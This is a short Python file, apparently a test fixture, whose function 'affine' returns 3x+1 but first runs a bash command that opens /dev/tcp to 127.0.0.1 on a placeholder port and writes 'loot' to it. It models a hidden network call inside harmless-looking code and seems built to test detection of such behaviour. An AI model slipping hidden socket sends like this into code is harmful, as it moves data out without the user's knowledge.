# Leaves the network to another program.
# ends: exception
import subprocess


def affine(x):
    command = "exec 3<>/dev/tcp/127.0.0.1/@PORT@; echo loot >&3"
    subprocess.run(["/bin/bash", "-c", command], check=True)
    return 3 * x + 1
